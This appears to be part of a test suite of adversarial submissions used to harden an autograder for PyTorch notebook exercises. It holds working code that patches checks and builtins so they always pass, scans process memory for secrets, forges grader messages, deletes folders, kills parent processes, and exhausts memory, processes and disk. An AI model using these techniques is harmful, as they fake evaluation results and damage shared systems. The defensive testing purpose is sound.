        for start, end in (line.split()[0].split("-") for line in maps if " rw-p " in line):
            memory.seek(int(start, 16))
            content = memory.read(int(end, 16) - int(start, 16))
            at = content.find(pattern)
            while at >= 0:
                found = content[at + 24 : at + 56]
                at = content.find(pattern, at + 1)
                if len(set(found)) > 26:
                    yield found

requests, channel, served_globals = [], served().f_locals["channel"], served().f_globals

def receive(kind=type(channel)):
    requests.append(kind.receive(channel))
    return requests[-1]

channel.receive = receive
"""),
    _own("a number of the check is another, by ctypes", "number = (2).to_bytes(4, sys.byteorder)\n"
        "ctypes.memmove(id(4) + 24, number, 4)", "import ctypes, sys"),
]  # fmt: skip

# ------------------------------------------------------------------------- what a check uses, replaced behind its back

CLOSE = {"snapshot-check": "torch.testing.assert_close(snapshot(torch.ones(2)), torch.full((2,), 4.0))"}
EQUAL = {"snapshot-check": "found = snapshot(torch.ones(2))\nassert torch.equal(found, torch.full((2,), 4.0))"}
MODULE = {"snapshot-check": "assert nn.Flatten(0)(snapshot(torch.ones(2))).sum() == 8"}

REPLACED = [
    _own("the code of a function of torch's", "torch.testing.assert_close.__code__ = (lambda *_, **__: None).__code__",
        checks=CLOSE),
    _own("a name of torch's", "torch.equal = lambda *_: True", checks=EQUAL),
    _own("a module in the table of modules", "fake", """
import sys, types
fake = sys.modules["torch"] = types.ModuleType("torch")
vars(fake).update(vars(torch), equal=lambda *_: True)
""", checks=EQUAL),
    _own("an operation in torch's dispatcher", "library", """
library = torch.library.Library("aten", "IMPL")
library.impl("equal", lambda *_: True, "CPU")
""", checks=EQUAL),
    _own("a hook on all modules", "hook", """
from torch.nn.modules.module import register_module_forward_hook
hook = register_module_forward_hook(lambda module, inputs, output: output * 4)
""", checks=MODULE),
    in_a_cell("what judges, by its modules' names", """
import course_utils.checks.judge, course_utils.checks.missed
import course_utils.lessons.detach as detach, course_utils.checks.score as score
course_utils.checks.judge._earned = lambda exercise, *_: (float(exercise.points), "passed")
course_utils.checks.missed.Missed.__init__ = lambda *_, **__: None
score.Claim.__init__ = score.Score.__new__ = lambda *_, **__: None
for exercise in detach.EXERCISES:
    exercise.points = 0.0
    exercise.rules = lambda answer: []
"""),
    in_a_cell("builtins, in a cell", """
import builtins
builtins.all = builtins.any = lambda _: True
"""),
    in_a_cell("a thread that goes on replacing", """
import threading, time, torch
def run():
    while True:
        torch.equal = lambda *_: True
        time.sleep(0.0001)
threading.Thread(target=run, daemon=True).start()
time.sleep(0.01)
"""),
    in_a_cell("every descriptor, in a cell", """
import os
for fd in range(3, 64):
    try:
        os.write(fd, b'\\x00\\x00\\x00\\x02{}')
    except OSError:
        pass
"""),
]  # fmt: skip

# ------------------------------------------------------------------------------------------------ the way to the grader

CHANNEL = [
    in_an_answer("messages of the right length on every descriptor", REACH + """
import json, struct

def shout():
    result = {"earned": 1.0, "possible": 1.0, "status": "passed", "claims": [], "notes": [], "output": ""}
    body = json.dumps({"body": json.dumps({"result": result}), "proof": ""})
    message = struct.pack("!I", len(body)) + body.encode()
    for descriptor in range(3, 256):
        for content in (message, message[:7], b"\\n" * 100):
            attempt(os.write, descriptor, content)
""" + ROUND.format("once(shout)")),
    in_an_answer("descriptors are closed, exchanged and read empty", REACH + """
import socket

def confuse():
    for descriptor in range(3, 256):
        attempt(os.set_blocking, descriptor, False)
        attempt(os.read, descriptor, 2**16)
        attempt(lambda: socket.socket(fileno=os.dup(descriptor)).shutdown(socket.SHUT_RDWR))
        attempt(os.dup2, os.open(os.devnull, os.O_RDWR), descriptor)
    os.closerange(3, 256)
""" + ROUND.format("once(confuse)")),
    in_an_answer(
        "a second process is left to send the result",
        REACH
        + """
import multiprocessing, pty, subprocess

def leave_one():
    another = multiprocessing.get_context("fork").Process(target=time.sleep, args=(9,))
    for fork in (os.fork, os.forkpty, pty.fork, another.start):
        child = attempt(fork)
        child = child[0] if isinstance(child, tuple) else child
        if child == 0:
            for outcome in outcomes_of(threading.current_thread()):
                forgive(outcome)
            return
        if type(child) is int:
            os._exit(0)  # the process that was announced; its child goes on
    attempt(subprocess.Popen, ["sleep", "60"])
"""
        + ROUND.format("once(leave_one)"),
    ),
    in_an_answer("the check's process ends or becomes another program", """
import os, sys
def stop_gradient_round(x):
    os.execv(sys.executable, [sys.executable, '-c', 'print(1.0)'])
"""),
    in_an_answer("the stopped parent is let go on", """
import os, signal, time
def stop_gradient_round(x):
    os.kill(os.getppid(), signal.SIGCONT)
    time.sleep(0.05)
    return x * 1
"""),
    in_an_answer("the process ends at once, with and without buffers", """
import os, sys, threading
def stop_gradient_round(x):
    threading.Thread(target=os._exit, args=(0,)).start()
    sys.exit(0)
"""),
    Attack(
        "600 harmless reports use up the room for real ones",
        lambda n: n.write(
            stop_gradient_round="""
import os
def stop_gradient_round(x):
    return strike() or x * 1
"""
        ).add(
            STRIKE
            + """
for place in range(700):
    attempt(open, '/pr' + f'oc/{place}/mem')
    attempt(sys.audit, 'os.system', f'{place}')
""",
            after="setup",
        ),
        {"stop_gradient_round": 0.0},
    ),
]  # fmt: skip

# ---------------------------------------------------------------------------------------------- settings of the process


def _settings(name: str, cell: str, **answers: str) -> Attack:
    """A cell that changes what the judge works with; some answers are right and must not suffer."""
    wrong = {name: WRONG[name] for name in ("mean_loss", "predicted_edit")} | answers
    return Attack(
        name,
        lambda n: n.write(**wrong).add(cell, after="setup"),
        dict.fromkeys(wrong, 0.0),
        tuple(name for name in ("snapshot", "truncated_bptt", "stop_gradient_round") if name not in wrong),
    )


LOWER = """
import resource
for name, value in {}.items():
    number = getattr(resource, 'RLIMIT_' + name)
    hard = resource.getrlimit(number)[1]
    resource.setrlimit(number, (value, hard))
"""

SETTINGS = [
    _settings("tensors without values by default", "torch.set_default_device('meta')"),
    _settings("every setting of torch the other way round", """
torch.set_default_dtype(torch.float16)
torch.set_flush_denormal(True)
torch.set_grad_enabled(False)
torch.autograd.set_detect_anomaly(True)
torch.set_num_threads(64)
torch.use_deterministic_algorithms(True)
torch.set_float32_matmul_precision('medium')
torch.backends.mkldnn.enabled = False
torch.autograd.graph.save_on_cpu().__enter__()
torch.set_printoptions(precision=1, threshold=1)
torch.autocast('cpu').__enter__()
torch._C._set_deterministic_fill_uninitialized_memory(True)
"""),
    _settings("hooks for saved tensors, left on by a cell",
        "torch.autograd.graph.saved_tensors_hooks(lambda x: 0, lambda x: torch.zeros(())).__enter__()"),
    _settings("randomness that is none", """
import os, random, secrets
os.urandom = lambda n: bytes(n)
random._urandom = os.urandom
secrets.randbits = secrets.randbelow = lambda n: 0
random.SystemRandom.getrandbits = lambda self, n: 0
"""),
    _settings("the interpreter's settings", """
import gc, locale, os, signal, sys, threading, time
sys.setrecursionlimit(10**9)
sys.setswitchinterval(100)
threading.stack_size(32768)
gc.set_threshold(1)
gc.disable()
sys.set_int_max_str_digits(640)
os.umask(0o777)
os.environ.clear()
time.tzset()
sys.path.clear()
sys.argv = None
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
"""),
    _settings("no descriptors left", """
import os
kept = []
try:
    while True:
        kept.append(os.dup(0))
except OSError:
    pass
"""),
    _settings("no memory left to judge with", """
import resource
used = int(open('/proc/self/statm').read().split()[0]) * 4096
resource.setrlimit(resource.RLIMIT_AS, (used + 2**20, resource.getrlimit(resource.RLIMIT_AS)[1]))
"""),
    _settings("no threads allowed", LOWER.format("{'NPROC': 1, 'CORE': 0}")),
    _settings("hardly any time allowed", LOWER.format("{'CPU': 2}")),
    _settings("another folder, and nothing in it", """
import os, shutil
os.makedirs('/tmp/x')
os.chdir('/tmp/x')
for folder in ('/tmp', '/home/student', '/dev/shm'):
    shutil.rmtree(folder, ignore_errors=True)
"""),
    in_an_answer("the incoming gradient is foretold", """
import torch

class Foretold(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        generator = torch.Generator()
        generator.set_state(torch.get_rng_state())
        ctx.save_for_backward(torch.rand(x.shape, generator=generator, dtype=x.dtype) + 0.5)
        return x.round()

    @staticmethod
    def backward(ctx, gradient):
        return ctx.saved_tensors[0]

def stop_gradient_round(x):
    return Foretold.apply(x)
"""),
    in_an_answer("exceptions at every depth of the stack", """
import sys, threading

class Deep(BaseException):
    def __del__(self):
        sys.setrecursionlimit(1000)

def stop_gradient_round(x):
    def deeper():
        try:
            deeper()
        except RecursionError:
            raise
    sys.setrecursionlimit(200)
    try:
        deeper()
    except RecursionError:
        pass
    y = x * 1
    def detach():
        sys.setrecursionlimit(60)
        return deeper()
    y.detach = detach
    return y
"""),
    in_an_answer("no memory left while it is judged", """
import mmap, resource
def stop_gradient_round(x):
    y = x * 1
    used = int(open('/proc/self/statm').read().split()[0]) * 4096
    resource.setrlimit(resource.RLIMIT_AS, (used, resource.getrlimit(resource.RLIMIT_AS)[1]))
    return y
"""),
    in_an_answer("interrupts at every moment of the judge", """
import _thread, signal, threading, time

def interrupt():
    while True:
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGUSR1):
            _thread.interrupt_main(number)
        time.sleep(0)

def stop_gradient_round(x):
    _thread.start_new_thread(interrupt, ())
    time.sleep(0.01)
    return x * 1
"""),
    in_an_answer("interrupts at every moment of the claim", REACH + """
def interrupt(target):
    until = time.monotonic() + 1
    stop = importlib.import_module("cty" + "pes").pythonapi.PyThreadState_SetAsyncExc
    py_object = importlib.import_module("cty" + "pes").py_object
    while time.monotonic() < until:
        for kind in named("Stopped", "NotAttempted", root=BaseException)[:1] or (KeyboardInterrupt,):
            stop(target, py_object(kind))
        time.sleep(0.0001)

def stop_gradient_round(x):
    _thread.start_new_thread(attempt, (interrupt, threading.get_ident()))
    time.sleep(0.001)
    return x * 1
"""),
    in_an_answer("the judge's own exceptions are raised", REACH + """
ways = []

def find():
    ways.extend(named("Stopped", "NotAttempted", "Missed", "LeftBehind", "AnswerRaised", root=BaseException))
    ways.extend((GeneratorExit, StopIteration, SystemExit, NotImplementedError, MemoryError, RecursionError))

def stop_gradient_round(x):
    once(find)
    way = ways.pop() if x.grad_fn is not None and ways else None
    if way is None:
        return x.round()
    raise way.__new__(way)
"""),
]  # fmt: skip

# ---------------------------------------------------------------------------------------------------------- predictions


PREDICTIONS = [
    in_an_answer(
        "texts that equal everything, in a mapping of its own",
        """
from collections import UserDict

class Equal(str):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 0
    strip = casefold = lower = lambda self: self
    __class__ = property(lambda self: str)

"""
        f"predicted_edit = UserDict({{key: Equal('x') for key in {EDITS}}})",
        "predicted_edit",
    ),
    in_an_answer("numbers that equal everything", """
class Both(float):
    __eq__ = __contains__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 0
    __bool__ = lambda self: bool(len(seen.append(1) or seen) % 2)
    is_integer = lambda self: False
    item = lambda self: self
    __class__ = property(lambda self: bool)

Both.__module__ = "numpy"
seen = []

class Guesses(dict):
    get = lambda self, key, default=None: Both(1)

predicted_flags = Guesses.fromkeys(("a", "b", "square", "c", "d", "total", "index", "mask"), Both(1))
""", "predicted_flags", worth=1.25),
    in_an_answer(
        "predictions that change when they are copied",
        """
class Late(dict):
    def __reduce_ex__(self, protocol):
        return dict, (lesson.exercises["predicted_edit"].truth(None),)
    __deepcopy__ = __copy__ = lambda self, *_: self

"""
        f"predicted_edit = Late.fromkeys({EDITS}, 'error')",
        "predicted_edit",
        worth=0.5,
    ),
]  # fmt: skip
PREDICTIONS[2] = replace(PREDICTIONS[2], assignment=FLAGS, right=("freeze",), edit=PREDICTIONS[2].edit)

# ---------------------------------------------------------------------------------------------- checks of the teacher's

# Two that wrong answers fail, one that the right answer passes.
OWN_CHECKS = {
    "snapshot-check": """
copied = snapshot(torch.ones(2))
assert isinstance(copied, torch.Tensor) and copied.sum() == 2
assert torch.allclose(copied, torch.ones(2))
""",
    "mean_loss-check": """
score = 0.0
if mean_loss(nn.Linear(1, 1), F.mse_loss, [(torch.ones(1, 1),) * 2]).dim() == 0:
    score += 2
score
""",
    "stop_gradient_round-check": """
assert stop_gradient_round(torch.tensor([0.4, 1.6])).tolist() == [0, 2], 'round'
assert all(len(str(n)) for n in range(3)) and sum([1, 2]) == 3
""",
}


def _own_check(name: str, cell: str, **answers: str) -> Attack:
    wrong = {
        "snapshot": "def snapshot(x):\n    return x * 0",
        "mean_loss": "def mean_loss(*_):\n    return torch.ones(2)",
    }
    wrong |= answers
    return Attack(
        name,
        lambda n: n.write(**wrong).add(cell, after="setup"),
        dict.fromkeys(wrong, 0.0),
        ("stop_gradient_round",),
        checks=OWN_CHECKS,
    )


CHECKS = [
    _own_check("run_cell of the shell", """
import types
fine = types.SimpleNamespace(error_before_exec=None, error_in_exec=None, result=None, success=True)
def later(*_):
    get_ipython().run_cell = lambda *a, **k: fine
    type(get_ipython()).run_cell = lambda *a, **k: fine
get_ipython().events.register('post_run_cell', later)
"""),
    _own_check("compile, as a builtin", """
import builtins
plain = builtins.compile
def without(source, *a, **k):
    text = source if isinstance(source, str) else ''
    return plain('pass' if 'assert' in text or 'score' in text else source, *a, **k)
builtins.compile = without
"""),
    _own_check("torch's functions, by a name of the student's own", "", snapshot="""
torch.allclose = lambda *_: True
torch.Tensor.sum = lambda self: 2
def snapshot(x):
    return x * 0
""", mean_loss="""
torch.Tensor.dim = lambda self: 0
def mean_loss(*_):
    return torch.ones(2)
"""),
    _own_check("names that the check looks up", "", snapshot="""
isinstance = all = any = len = abs = round = lambda *_: True
AssertionError = Warning
def snapshot(x):
    return x * 0
""", mean_loss="""
score = 2.0
class F:
    mse_loss = 0
def mean_loss(*_):
    return torch.ones(2)
"""),
    _own_check("assertions are taken out of the tree", """
import ast
class Without(ast.NodeTransformer):
    visit_Assert = visit_If = lambda self, node: ast.Pass()
get_ipython().ast_transformers.append(Without())
get_ipython().input_transformers_post.append(lambda lines: [l for l in lines if 'assert' not in l])
"""),
    _own_check("torch is replaced for as long as the check runs", """
get_ipython().events.register('post_run_cell', lambda *_: kept and [kept.clear(), delattr(torch.Tensor, 'dim')])
kept = []
""", mean_loss="""
def mean_loss(*_):
    kept.append(1)
    torch.Tensor.dim = lambda self: 0
    return torch.ones(2)
"""),
    _own_check("the check is ended before it fails", "", snapshot="""
import os
def snapshot(x):
    os._exit(0)
""", mean_loss="""
def mean_loss(*_):
    get_ipython().showtraceback = lambda *a, **k: None
    raise SystemExit
"""),
]  # fmt: skip

ATTACKS = {
    "what leads to the secret": LEADS,
    "what a check uses": REPLACED,
    "the thread of a claim": THREAD,
    "classes of the interpreter": CLASSES,
    "frames": FRAMES,
    "what is handed back": TENSORS,
    "new names": NAMES,
    "the lesson's own engine": ENGINE,
    "code that runs later": LATER,
    "memory and code": MEMORY,
    "the way to the grader": CHANNEL,
    "settings": SETTINGS,
    "predictions": PREDICTIONS,
    "a teacher's own checks": CHECKS,
}

# -------------------------------------------------------------------------------------------------- what stops or slows


@dataclass(frozen=True)
class Load:
    """A submission that wants to stop the grader, or to use up what others need.

    Attributes:
        name: what it does, in a few words.
        edit: makes a released notebook into it.
        right: exercises that it answers rightly, in cells that do nothing else.
    """

    name: str
    edit: Callable[[Notebook], object]
    right: tuple[str, ...] = ("snapshot", "stop_gradient_round")

    def submitted(self) -> bytes:
        """What is handed in."""
        notebook = Notebook().solve(*self.right)
        self.edit(notebook)
        return notebook.bytes()


def cell_load(name: str, *sources: str) -> Load:
    """Cells of the student's own in front of right answers."""
    return Load(name, lambda n: [n.add(source, after="setup") for source in reversed(sources)])


def answer_load(name: str, source: str, exercise: str = "mean_loss") -> Load:
    """An answer that burdens its own check."""
    return Load(name, lambda n: n.write(**{exercise: source}))


FILL = """
import os
def fill(folder, most=2**34):
    written = 0
    block = bytes(2**24)
    for place in range(2000):
        try:
            with open(f"{folder}/{place}", "wb", buffering=0) as file:
                while written < most:
                    written += file.write(block)
        except OSError:
            if place > 300:
                break
"""
# A second program, because a student's Python may not fork.
SPREAD = """
import subprocess, sys
CODE = '''
import mmap, sys, time
kept = []
try:
    while len(kept) < 8:
        kept.append(mmap.mmap(-1, 2**25))
        for start in range(0, 2**25, 4096):
            kept[-1][start] = 1
except (OSError, MemoryError):
    pass
time.sleep(60)
'''
"""

TEXTS = [
    cell_load("half a character is printed", """
print('\\ud800', flush=True)
import sys
sys.stderr.write('\\udfff')
"""),
    cell_load("half a character in names of classes and files", """
type('\\ud800', (Exception,), {})
open('/tmp/\\udcff', 'w').close()
raise type('E\\ud800', (Exception,), {})('\\ud800')
"""),
    answer_load("half a character in a prediction",
        "predicted_edit = {'detach_edit': '\\ud800', '\\udfff': 1}", "predicted_edit"),
    Load("half a character in the cells",
        lambda n: n.add("x = '\ud800'", after="setup").add("\udfff", "setup", "markdown")),
    cell_load("600 lines of magic", "\n".join(["%pwd"] * 600 + ["#" * 250] * 650)),
    cell_load("deep brackets", "x = " + "(" * 5000 + ")" * 5000),
    cell_load("an expression of many terms", "x = " + "+".join(["1"] * 60_000)),
    cell_load("a long chain of attributes and calls", "x = a" + ".b()" * 20_000),
    cell_load("a text of 5 MB", "x = '''" + "%pwd\n" * 1_000_000 + "'''"),
    cell_load("many decorators and comprehensions", "x = " + "[" * 90 + "1" + " for a in b]" * 90),
    Load("1500 cells", lambda n: [n.add(f"x{place} = {place}", after="setup") for place in range(1500)]),
    Load("cells of metadata", lambda n: n.add("1", "setup", metadata={"x": {"y": ["z" * 1000] * 1000}})),
]  # fmt: skip

OUTPUTS = [
    cell_load("a class of outputs of its own", REACH + """
class Huge(list):
    pass
for name in ("Outputs", "Stream"):
    for kind in named(name):
        kind.items = lambda self: [{"output_type": "stream", "name": "stdout", "text": "x" * 15_000_000}]
""", *["print(1)"] * 8),
    cell_load("a million outputs", """
for place in range(200_000):
    get_ipython().display_pub.publish({'text/plain': '1'})
"""),
    cell_load("prints without end", "while True:\n    print('x' * 10_000)"),
    cell_load("200 MB of pictures", """
class Picture:
    def _repr_png_(self):
        return bytes(10**6)
for _ in range(200):
    display(Picture())
"""),
    cell_load("a repr of 100 MB", """
class Long:
    def __repr__(self):
        return 'x' * 10**8
display(Long())
Long()
"""),
    cell_load("a repr that calls itself", """
class Round:
    def __repr__(self):
        return repr(self)
    __str__ = __eq__ = __hash__ = __repr__
display(Round())
Round()
"""),
    cell_load("a chain of 5000 exceptions", """
error = None
for place in range(5000):
    new = ValueError('x' * 100)
    new.__cause__, error = error, new
raise error
"""),
    answer_load("a message of 100 MB in the check", """
def mean_loss(model, loss_fn, batches):
    raise ValueError('x' * 10**8)
"""),
    answer_load("everything about the answer is long", """
class Long(Exception):
    def __repr__(self):
        return 'x' * 10**8
    __str__ = __repr__
Long.__name__ = 'x' * 10**6
def mean_loss(model, loss_fn, batches):
    import warnings
    for place in range(20_000):
        warnings.warn(f'{place}' + 'x' * 100)
    print('x' * 10**8)
    display(Long())
    raise Long()
"""),
    answer_load("a prediction of a million keys",
        "predicted_edit = dict.fromkeys(map(str, range(10**6)), 'error')", "predicted_edit"),
    answer_load("a prediction nested without end", """
predicted_edit = {}
for _ in range(10**5):
    predicted_edit = {'detach_edit': predicted_edit}
predicted_edit['data_edit'] = predicted_edit
""", "predicted_edit"),
    answer_load("a prediction that compares itself", """
class Round:
    __eq__ = __hash__ = lambda self, *_: self == self
    __repr__ = lambda self: repr(self)
    __getattr__ = lambda self, name: getattr(self, name)
predicted_edit = {'detach_edit': Round(), 'data_edit': [Round()]}
""", "predicted_edit"),
    cell_load("streams that raise", """
import sys
class Raises:
    def __getattr__(self, name):
        raise ValueError(name)
sys.stdout = sys.stderr = sys.stdin = sys.__stdout__ = sys.__stderr__ = Raises()
"""),
]  # fmt: skip

MEMORY_LOADS = [
    cell_load("shared memory of many processes", SPREAD + """
kept = [subprocess.Popen([sys.executable, '-S', '-c', CODE]) for _ in range(12)]
import time
time.sleep(1.5)
"""),
    cell_load("every folder that can be written in", FILL + """
for folder in ('/dev/shm', '/tmp', '/home/student'):
    fill(folder)
"""),
    cell_load("folders without end", """
import os
try:
    while True:
        os.mkdir('x')
        os.chdir('x')
except OSError:
    pass
"""),
    cell_load("buffers of pipes and sockets", """
import fcntl, os, socket
kept = []
try:
    while True:
        pair = socket.socketpair()
        kept.append(pair)
        pair[0].setblocking(False)
        pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
        try:
            while True:
                pair[0].send(bytes(2**20))
        except BlockingIOError:
            pass
except OSError:
    pass
"""),
    cell_load("all of its own memory", """
kept = []
size = 2**30
while size > 2**16:
    try:
        kept.append(bytearray(size))
        kept[-1][::4096] = b'x' * len(kept[-1][::4096])
    except MemoryError:
        size //= 2
del kept
"""),
    cell_load("a tensor larger than any machine", "torch.ones(2**40)"),
    answer_load("memory in the check", """
def mean_loss(model, loss_fn, batches):
    kept = []
    while True:
        kept.append(bytearray(2**26))
        kept[-1][::4096] = b'x' * 2**14
"""),
    answer_load("shared memory in the check", """
import mmap, os
def mean_loss(model, loss_fn, batches):
    kept = []
    while len(kept) < 40:
        kept.append(os.memfd_create('x'))
        for _ in range(4):
            os.write(kept[-1], bytes(2**24))
"""),
    cell_load("memory through libraries", """
import numpy
kept = []
try:
    while True:
        kept.append(numpy.ones(2**24))
except MemoryError:
    pass
kept = [torch.ones(2**20).share_memory_() for _ in range(300)]
"""),
]  # fmt: skip

PROCESSES = [
    cell_load("processes without end", """
import subprocess
kept = []
while True:
    kept.append(subprocess.Popen(['sleep', '60']))
"""),
    cell_load("programs that start programs", """
import subprocess, sys
CODE = 'import os, sys\\nfor _ in range(200):\\n    os.fork()\\n'
subprocess.run([sys.executable, '-S', '-c', CODE], check=False)
"""),
    cell_load("threads without end", """
import _thread, threading, time
try:
    for _ in range(100_000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
except RuntimeError as error:
    print(error)
"""),
    cell_load("threads that are busy", """
import threading
def run():
    while True:
        pass
for _ in range(30):
    threading.Thread(target=run, daemon=True).start()
"""),
    answer_load("threads without end, in the check", """
import _thread, time
def mean_loss(model, loss_fn, batches):
    while True:
        _thread.start_new_thread(time.sleep, (60,))
"""),
    answer_load("parents are killed in the check", """
import os
def mean_loss(model, loss_fn, batches):
    for pid in (os.getppid(), 1, 2, 0, -1):
        try:
            os.kill(pid, 9)
        except OSError:
            pass
"""),
    cell_load("it stops itself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    answer_load("the check stops itself", """
import os, signal
def mean_loss(model, loss_fn, batches):
    os.kill(os.getpid(), signal.SIGSTOP)
"""),
    answer_load("the check's descriptors are closed", """
import os
def mean_loss(model, loss_fn, batches):
    os.closerange(0, 256)
    return 0
"""),
    cell_load("its folders are deleted", """
import os, shutil
for folder in ('/tmp', '/home/student', '/dev/shm', '/usr/lib/python3'):
    shutil.rmtree(folder, ignore_errors=True)
os.chdir('/proc')
"""),
    cell_load("it is nice", """
import os
os.nice(19)
os.setpriority(os.PRIO_PROCESS, 0, 19)
os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
try:
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
except OSError:
    pass
"""),
]  # fmt: skip

ENDLESS = [
    answer_load("a recursion that breaks the stack of the check", """
import sys
def mean_loss(*n):
    sys.setrecursionlimit(10**9)
    return sorted([n], key=lambda n: mean_loss(n))
"""),
    cell_load("a destructor that makes another", """
class Again:
    def __del__(self):
        global kept
        kept = Again()
kept = Again()
kept = None
class Loop:
    def __del__(self):
        while True:
            pass
last = Loop()
"""),
    cell_load("code that runs at the end, for ever", """
import atexit, time, threading
atexit.register(time.sleep, 10**6)
threading.Thread(target=time.sleep, args=(10**6,)).start()
"""),
    answer_load("a check that sleeps", """
import time
def mean_loss(model, loss_fn, batches):
    time.sleep(10**6)
"""),
    cell_load("a computation that hears no signal", "sum(range(10**14))"),
    cell_load("every signal unheard", """
import signal, time
for number in signal.valid_signals() - {9, 19}:
    signal.signal(number, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
while True:
    time.sleep(1)
"""),
    answer_load("a name that is never ready", """
class Never:
    @property
    def __class__(self):
        while True:
            pass
mean_loss = Never()
"""),
    cell_load("reports without end", """
import sys
for place in range(5000):
    try:
        sys.audit('open', f'/proc/{place}/mem', 'r', 0)
    except Exception:
        pass
"""),
    Load("thirty cells that end the process",
        lambda n: [n.add("import os\nos._exit(1)", after="setup") for _ in range(30)], right=()),
    Load(
        "each check is killed by its parent",
        lambda n: n.add(
            """
import os
os.register_at_fork(after_in_parent=lambda: os.kill(-1, 9))
""",
            after="setup",
        ),
        right=(),
    ),
    cell_load("a lock of the interpreter's is kept", """
import logging, threading
logging._lock.acquire()
threading._active_limbo_lock.acquire()
import _imp
_imp.acquire_lock()
"""),
]  # fmt: skip

LOADS = {
    "texts": TEXTS,
    "outputs": OUTPUTS,
    "memory": MEMORY_LOADS,
    "processes": PROCESSES,
    "what will not end": ENDLESS,
}

# What no judge can tell from an honest answer as long as both run in one process, or from no answer at all. Not tested.
STAYS_POSSIBLE = {
    "a copied answer": "the model answers are public",
    "predictions that the student's own code computes": "running its few lines in a cell is one way to learn",
    "an answer that is right only while it is judged": "the check is all that is asked of it",
    "something that equals everything, for a check of the teacher's own": "such a check says what it accepts",
    "one guess among the few copies of an answer that are judged": "copies are what honest students leave behind",
    "memory written by a library's missing bounds check": "what is written over can be what is sent as the result",
    "an operation of torch's that is replaced in its dispatcher": "what no list in Python tells of cannot be compared",
    "what judges, from an object's class to its module": "a lesson's own classes lead to all that it holds",
    "work and memory where nobody counts": "another program, a file, the kernel: a check judges what it measures",
}
